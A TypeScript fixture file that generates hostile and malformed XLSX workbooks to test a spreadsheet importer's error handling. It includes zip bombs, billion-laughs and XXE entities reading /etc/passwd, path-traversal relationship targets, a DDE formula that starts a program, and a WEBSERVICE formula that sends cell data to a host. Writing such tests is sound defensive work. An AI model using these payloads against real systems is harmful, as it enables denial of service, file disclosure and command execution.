/** Packed workbooks that are wrong in one place. */
import { deflateRawSync, constants } from 'node:zlib';
import type { BadFile } from './bad-files.ts';
import {
  type PartToPack,
  type WorkbookToPack,
  makeWorkbook,
  makeZip,
  workbookParts,
} from './zip-make.ts';

const MEGABYTE = 1024 * 1024;
const ROW =
  '<row r="1"><c r="A1" t="inlineStr"><is><t>Họ tên</t></is></c><c r="B1"><v>1</v></c></row>';
const GOOD: WorkbookToPack = { sheet: `<sheetData>${ROW}</sheetData>` };

export function badWorkbooks(): BadFile[] {
  return [
    ...brokenArchives(),
    ...otherArchives(),
    ...bombs(),
    ...brokenParts(),
    ...oddParts(),
    ...oddPlaces(),
    ...oddValues(),
    ...emptyOnes(),
  ];
}

function bytes(name: string, expected: BadFile['expected'], make: () => Uint8Array): BadFile {
  return { name, expected, make };
}

function workbook(name: string, expected: BadFile['expected'], packed: WorkbookToPack): BadFile {
  return { name, expected, make: () => makeWorkbook(packed) };
}

function cells(
  name: string,
  firstRow: readonly string[],
  xml: string,
  more: Partial<WorkbookToPack> = {},
): BadFile {
  const packed = { sheet: `<sheetData><row r="1">${xml}</row></sheetData>`, ...more };
  return {
    name,
    expected: firstRow.length === 0 ? 0 : 1,
    firstRow,
    make: () => makeWorkbook(packed),
  };
}

function brokenArchives(): BadFile[] {
  const good = makeWorkbook(GOOD);
  const cut = (share: number) => good.subarray(0, Math.floor(good.length * share));
  const changed = (change: (copy: Buffer) => void) => {
    const copy = Buffer.from(good);
    change(copy);
    return copy;
  };
  const directory = good.readUInt32LE(good.length - 6);
  return [
    bytes('xlsx cut at a tenth', 'table.truncated', () => cut(0.1)),
    bytes('xlsx cut in the middle', 'table.truncated', () => cut(0.5)),
    bytes('xlsx cut at nine tenths', 'table.truncated', () => cut(0.9)),
    bytes('xlsx without its last byte', 'table.truncated', () => good.subarray(0, -1)),
    bytes('xlsx without its first byte', 'table.unknownKind', () => good.subarray(1)),
    bytes('xlsx with a tail of zeros', 2, () =>
      Buffer.concat([
        makeWorkbook({ sheet: `<sheetData>${ROW}<row r="2"><c><v>2</v></c></row></sheetData>` }),
        Buffer.alloc(200),
      ]),
    ),
    bytes('a local header alone', 'table.truncated', () => good.subarray(0, 30)),
    bytes('directory beyond the file', 'table.truncated', () =>
      changed((copy) => copy.writeUInt32LE(0x7fffffff, copy.length - 6)),
    ),
    bytes('directory in the wrong place', 'table.damaged', () =>
      changed((copy) => copy.writeUInt32LE(directory - 7, copy.length - 6)),
    ),
    bytes('more parts stated than there are', 'table.damaged', () =>
      changed((copy) => copy.writeUInt16LE(99, copy.length - 12)),
    ),
    bytes('a part beyond the file', 'table.truncated', () =>
      changed((copy) => copy.writeUInt32LE(0x7ffffff0, directory + 42)),
    ),
    bytes('first bytes overwritten', 'table.unknownKind', () =>
      changed((copy) => copy.fill(0xff, 0, 4)),
    ),
    bytes('zip with a password', 'table.encrypted', () =>
      makeZip(workbookParts(GOOD).map((part) => ({ ...part, flags: 1 }))),
    ),
    bytes('unknown packing', 'table.damaged', () =>
      makeZip(workbookParts(GOOD).map((part) => ({ ...part, method: 99 }))),
    ),
    bytes('a sheet of random bytes for packed ones', 'table.damaged', () =>
      withSheetPacked(Buffer.from('ff00ff00deadbeef', 'hex')),
    ),
    bytes('a sheet whose packed bytes stop', 'table.damaged', () =>
      withSheetPacked(deflateRawSync(Buffer.from(ROW.repeat(500))).subarray(0, 60)),
    ),
  ];
}

function withSheetPacked(packed: Uint8Array): Buffer {
  return makeZip(
    workbookParts(GOOD).map((part) =>
      part.name.includes('sheet1.xml') ? { ...part, packed } : part,
    ),
  );
}

function otherArchives(): BadFile[] {
  const one = (name: string, data: string | Uint8Array): PartToPack[] => [{ name, data }];
  const office = (target: string) =>
    `<Relationships><Relationship Id="a" Type="http://x/officeDocument" Target="${target}"/></Relationships>`;
  const package_ = (target: string): PartToPack[] => [
    { name: '[Content_Types].xml', data: '<Types/>' },
    { name: '_rels/.rels', data: office(target) },
    { name: target, data: '<x/>' },
  ];
  return [
    bytes('an empty zip', 'table.archive', () => makeZip([])),
    bytes('a zip of a text', 'table.archive', () => makeZip(one('ghi chu.txt', 'x'))),
    bytes('a workbook in a zip', 'table.archive', () =>
      makeZip(one('danh sach.xlsx', makeWorkbook(GOOD))),
    ),
    bytes('zips in zips', 'table.archive', () =>
      makeZip(one('b.zip', makeZip(one('a.zip', makeZip(one('x', 'x')))))),
    ),
    bytes('a Word document', 'table.otherKind', () => makeZip(package_('word/document.xml'))),
    bytes('a presentation', 'table.otherKind', () => makeZip(package_('ppt/presentation.xml'))),
    bytes('a binary workbook', 'table.binaryWorkbook', () => makeZip(package_('xl/workbook.bin'))),
    bytes('an OpenDocument', 'table.openDocument', () =>
      makeZip([
        ...one('mimetype', 'application/vnd.oasis.opendocument.spreadsheet'),
        ...one('content.xml', '<x/>'),
      ]),
    ),
    bytes('content types alone', 'table.damaged', () =>
      makeZip(one('[Content_Types].xml', '<Types/>')),
    ),
  ];
}

/** The same megabyte over and over: each flushed block stands for itself, so a gigabyte takes no time to make. */
function packedRepeat(text: string, times: number): Buffer {
  const block = Buffer.from(text.repeat(Math.ceil(MEGABYTE / text.length)));
  const packed = deflateRawSync(block, { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([
    ...Array.from({ length: times }, () => packed),
    deflateRawSync(Buffer.alloc(0)),
  ]);
}

function withPacked(name: string, packed: Uint8Array, texts?: string): Buffer {
  const parts = workbookParts({ ...GOOD, texts });
  return makeZip(parts.map((part) => (part.name === name ? { ...part, packed } : part)));
}

function bombs(): BadFile[] {
  const sheet = 'xl/worksheets/sheet1.xml';
  const shared = 'xl/sharedStrings.xml';
  const start = (head: string, text: string) => {
    const flushed = deflateRawSync(Buffer.from(head), { finishFlush: constants.Z_FULL_FLUSH });
    return Buffer.concat([flushed, packedRepeat(text, 1024)]);
  };
  const rows = '<worksheet><sheetData>';
  const many = makeZip(
    Array.from({ length: 12_000 }, (_, at) => ({ name: `x${at}`, data: '', method: 0 as const })),
  );
  return [
    bytes('a gigabyte of blanks as a sheet', 'table.bomb', () =>
      withPacked(sheet, packedRepeat(' ', 1024)),
    ),
    bytes('a gigabyte of empty rows', 'table.bomb', () => withPacked(sheet, start(rows, '<row/>'))),
    bytes('a gigabyte of equal rows', 'table.tooManyRows', () =>
      withPacked(sheet, start(rows, '<row><c><v>1</v></c></row>')),
    ),
    bytes('a row without end', 'table.bomb', () =>
      withPacked(sheet, start(`${rows}<row>`, '<c><v>1</v></c>')),
    ),
    bytes('a cell without end', 'table.bomb', () =>
      withPacked(sheet, start(`${rows}<row><c t="inlineStr"><is><t>`, 'x')),
    ),
    bytes('a gigabyte of shared texts', 'table.tooManyTexts', () =>
      withPacked(shared, start('<sst>', '<si><t>xxxxxxxxxxxxxxxxxx</t></si>'), ''),
    ),
    bytes('a gigabyte of empty shared texts', 'table.tooManyTexts', () =>
      withPacked(shared, start('<sst>', '<si/>'), ''),
    ),
    bytes('a shared text without end', 'table.bomb', () =>
      withPacked(shared, start('<sst><si><t>', 'x'), ''),
    ),
    bytes('a gigabyte as workbook.xml', 'table.bomb', () =>
      withPacked('xl/workbook.xml', packedRepeat(' ', 1024)),
    ),
    bytes('a gigabyte as styles.xml', 'table.bomb', () =>
      withPacked('xl/styles.xml', packedRepeat(' ', 1024)),
    ),
    bytes('a gigabyte as relationships', 'table.bomb', () =>
      withPacked('_rels/.rels', packedRepeat(' ', 1024)),
    ),
    bytes('twelve thousand parts', 'table.tooManyParts', () => many),
    bytes('two names for the same packed bytes', 'table.bomb', () => {
      const zip = makeZip(workbookParts(GOOD));
      const directory = zip.readUInt32LE(zip.length - 6);
      const second = directory + 46 + zip.readUInt16LE(directory + 28);
      zip.writeUInt32LE(zip.readUInt32LE(directory + 42), second + 42);
      return zip;
    }),
  ];
}

const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at === 0 ? '' : at};`.repeat(10)}">`).join('')}]>`;
const ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';

function brokenParts(): BadFile[] {
  const replaced = (name: string, expected: BadFile['expected'], part: string, xml: string) =>
    workbook(name, expected, { ...GOOD, replace: { [part]: xml } });
  const without = (name: string, expected: BadFile['expected'], part: string) =>
    bytes(name, expected, () => makeZip(workbookParts(GOOD).filter((each) => each.name !== part)));
  const sheet = 'xl/worksheets/sheet1.xml';
  const sheets = Array.from({ length: 600 }, (_, at) => `<sheet name="s${at}" r:id="s1"/>`).join(
    '',
  );
  return [
    replaced(
      'billion laughs in the sheet',
      'table.doctype',
      sheet,
      `${LAUGHS}<worksheet><sheetData><row><c t="str"><v>&lol9;</v></c></row></sheetData></worksheet>`,
    ),
    replaced(
      'billion laughs in workbook.xml',
      'table.doctype',
      'xl/workbook.xml',
      `${LAUGHS}<workbook>&lol9;</workbook>`,
    ),
    replaced(
      'an entity of a file in the styles',
      'table.doctype',
      'xl/styles.xml',
      `${ENTITY}<styleSheet>&e;</styleSheet>`,
    ),
    workbook('an entity of a file in the texts', 'table.doctype', {
      ...GOOD,
      texts: `${ENTITY}<sst><si><t>&e;</t></si></sst>`,
    }),
    replaced('a sheet that is a page', 'table.damaged', sheet, '<html><body>404</body></html>'),
    replaced('a sheet without bytes', 'table.damaged', sheet, ''),
    replaced('a sheet of binary rubbish', 'table.damaged', sheet, '\0\u0001\u0002'.repeat(3000)),
    replaced('rows that never end', 'table.damaged', sheet, `<worksheet><sheetData>${ROW}`),
    replaced('workbook.xml without bytes', 'table.noSheets', 'xl/workbook.xml', ''),
    replaced(
      'six hundred sheets',
      'table.tooManySheets',
      'xl/workbook.xml',
      `<workbook xmlns:r="x"><sheets>${sheets}</sheets></workbook>`,
    ),
    replaced(
      'a link out of the archive',
      'table.noSheets',
      'xl/_rels/workbook.xml.rels',
      '<Relationships><Relationship Id="s1" Type="x/worksheet" Target="../../../../etc/passwd"/></Relationships>',
    ),
    replaced(
      'a sheet on the web',
      'table.noSheets',
      'xl/_rels/workbook.xml.rels',
      '<Relationships><Relationship Id="s1" Type="x/worksheet" TargetMode="External" Target="http://localhost/x.xml"/></Relationships>',
    ),
    replaced('styles that are none', 1, 'xl/styles.xml', '<<<>>>'),
    without('no sheet part', 'table.noSheets', sheet),
    without('no workbook part', 'table.damaged', 'xl/workbook.xml'),
    without('no relationships of the workbook', 'table.noSheets', 'xl/_rels/workbook.xml.rels'),
    without('no relationships of the package', 1, '_rels/.rels'),
    without('no styles', 1, 'xl/styles.xml'),
    without('no content types', 1, '[Content_Types].xml'),
  ];
}

function oddParts(): BadFile[] {
  const rename = (change: (name: string) => string) => () =>
    makeZip(workbookParts(GOOD).map((part) => ({ ...part, name: change(part.name) })));
  const wide = `\ufeff<?xml version="1.0" encoding="UTF-16"?><worksheet><sheetData>${ROW}</sheetData></worksheet>`;
  return [
    {
      ...bytes(
        'part names with backslashes',
        1,
        rename((name) => name.replaceAll('/', '\\')),
      ),
      firstRow: ['Họ tên', '1'],
    },
    bytes(
      'part names in capitals',
      1,
      rename((name) => name.toUpperCase()),
    ),
    {
      ...bytes('a sheet in UTF-16', 1, () =>
        makeZip(
          workbookParts(GOOD).map((part) =>
            part.name.includes('sheet1') ? { ...part, data: Buffer.from(wide, 'utf16le') } : part,
          ),
        ),
      ),
      firstRow: ['Họ tên', '1'],
    },
    workbook('prefixed names', 1, {
      sheet: '<x:sheetData><x:row><x:c><x:v>1</x:v></x:c></x:row></x:sheetData>',
      prefix: 'x:',
    }),
    workbook('a protected sheet', 1, {
      sheet: `<sheetProtection sheet="1" password="CC1A"/>${GOOD.sheet}`,
    }),
    workbook('links to other workbooks', 1, {
      ...GOOD,
      more: [{ name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink/>' }],
    }),
    workbook('a hundred thousand merged cells', 1, {
      sheet: `${GOOD.sheet}<mergeCells>${'<mergeCell ref="A1:B1"/>'.repeat(100_000)}</mergeCells>`,
    }),
    workbook('merged cells that are none', 1, {
      sheet: `${GOOD.sheet}<mergeCells><mergeCell ref="XXXX0:1A"/><mergeCell/></mergeCells>`,
    }),
    workbook('much after the rows', 1, {
      sheet: `${GOOD.sheet}<hyperlinks>${'<hyperlink ref="A1" location="x"/>'.repeat(600_000)}</hyperlinks>`,
    }),
    workbook('remarks between the rows', 2, {
      sheet: `<sheetData><!-- a -->${ROW}<!-- b --><row><c><v>2</v></c></row></sheetData>`,
    }),
  ];
}

function oddPlaces(): BadFile[] {
  const rows = (name: string, expected: BadFile['expected'], xml: string) =>
    workbook(name, expected, { sheet: `<sheetData>${xml}</sheetData>` });
  const wide = Array.from({ length: 16_384 }, () => '<c><v>1</v></c>').join('');
  return [
    rows('16,384 columns', 1, `<row r="1">${wide}</row>`),
    rows('16,385 columns', 'table.tooManyColumns', `<row r="1">${wide}<c><v>1</v></c></row>`),
    rows(
      'a column past the last',
      'table.tooManyColumns',
      '<row r="1"><c r="ZZZ1"><v>1</v></c></row>',
    ),
    rows(
      'a column of twenty letters',
      'table.tooManyColumns',
      `<row><c r="${'Z'.repeat(20)}1"><v>1</v></c></row>`,
    ),
    rows(
      'three thousand rows with the last column only',
      3000,
      '<row><c r="XFD1"><v>1</v></c></row>'.repeat(3000),
    ),
    rows(
      'row zero and a row of a billion',
      2,
      '<row r="0"><c><v>1</v></c></row><row r="999999999"><c><v>1</v></c></row>',
    ),
    rows(
      'rows out of order',
      2,
      '<row r="9"><c r="A9"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>',
    ),
    {
      ...rows(
        'the same cell twice',
        1,
        '<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>',
      ),
      firstRow: ['2'],
    },
    rows(
      'addresses in small letters, in single quotes',
      1,
      "<row r='1'><c r='b1'><v>1</v></c></row>",
    ),
    rows(
      'hidden rows',
      2,
      '<row r="1" hidden="1"><c><v>1</v></c></row><row r="2" hidden="true"><c><v>1</v></c></row>',
    ),
    rows('attributes without values', 1, '<row r><c r s t><v>1</v></c></row>'),
    rows(
      'headers twice',
      1,
      '<row>' + '<c t="inlineStr"><is><t>Họ tên</t></is></c>'.repeat(2) + '</row>',
    ),
  ];
}

function oddValues(): BadFile[] {
  const inline = (text: string) => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
  const dates = [
    '1/2/1990',
    '01-02-1990',
    '1990',
    '1990-02-01',
    '01.02.90',
    '1 tháng 2 năm 1990',
    '00/00/1990',
    '31/02/1990',
    '02/1990',
    "'01/02/1990",
  ];
  const from1904 = { workbookProperties: '<workbookPr date1904="true"/>' };
  return [
    cells('dates as texts of ten forms', dates, dates.map(inline).join('')),
    cells('days counted from 1904', ['1990-02-01'], '<c s="1"><v>31443</v></c>', from1904),
    cells('a day before the first', ['-5'], '<c s="1"><v>-5</v></c>'),
    cells('29 February 1900', ['60'], '<c s="1"><v>60</v></c>'),
    cells('a day after the last', ['99999999'], '<c s="1"><v>99999999</v></c>'),
    cells(
      'numbers that are none',
      ['NaN', 'INF', '1,5', '1 000'],
      '<c><v>NaN</v></c><c><v>INF</v></c><c><v>1,5</v></c><c><v>1 000</v></c>',
    ),
    cells('an identifier as a number', ['14193000123'], '<c><v>1.4193000123E10</v></c>'),
    cells('a number of 400 digits', ['9'.repeat(400)], `<c><v>${'9'.repeat(400)}</v></c>`),
    cells('a format that is not there', ['45000'], '<c s="99999"><v>45000</v></c>'),
    cells(
      'shared texts that are not there',
      ['x'],
      '<c><v></v></c>' +
        inline('x').replace('<c', '<c r="A1"') +
        '<c t="s"><v>5</v></c><c t="s"><v>-1</v></c><c t="s"><v>x</v></c>',
    ),
    cells('kinds that are none', ['1'], '<c t="zzz"><v>1</v></c>'),
    cells('errors', ['#REF!', '#N/A'], '<c t="e"><v>#REF!</v></c><c t="e"><v>#N/A</v></c>'),
    cells(
      'a formula that calls out',
      ['cũ'],
      '<c t="str"><f>WEBSERVICE("http://localhost:9/"&amp;A2)</f><v>cũ</v></c>',
    ),
    cells('a formula that starts a program', ['0'], "<c><f>cmd|'/C calc'!A0</f><v>0</v></c>"),
    cells(
      'marks that turn the direction',
      ['\u202eNguyễn\u200f An'],
      inline('\u202eNguyễn\u200f An'),
    ),
    cells('escaped control characters', ['a\0b'], inline('a_x0000_b')),
    cells(
      'entities that are none',
      ['&lol; �&#xZZ;'.replace('�', '')],
      inline('&lol; &#x110000;&#xZZ;'),
    ),
    workbook('a text of 40,000 letters', 'table.cellTooLong', {
      sheet: `<sheetData><row>${inline('x'.repeat(40_000))}</row></sheetData>`,
    }),
    workbook('a shared text of 40,000 letters', 'table.cellTooLong', {
      sheet: '<sheetData><row><c t="s"><v>0</v></c></row></sheetData>',
      texts: `<sst><si><t>${'x'.repeat(40_000)}</t></si></sst>`,
    }),
  ];
}

function emptyOnes(): BadFile[] {
  return [
    workbook('an empty sheet', 0, { sheet: '<sheetData/>' }),
    workbook('a sheet of coloured empty rows', 0, {
      sheet: `<sheetData>${'<row><c s="1"/><c s="1"></c></row>'.repeat(50_000)}</sheetData>`,
    }),
    workbook('a header alone', 1, GOOD),
    cells('formulas that were never computed', ['', ''], '<c><f>A2</f></c><c><f>A3</f><v></v></c>'),
  ];
}
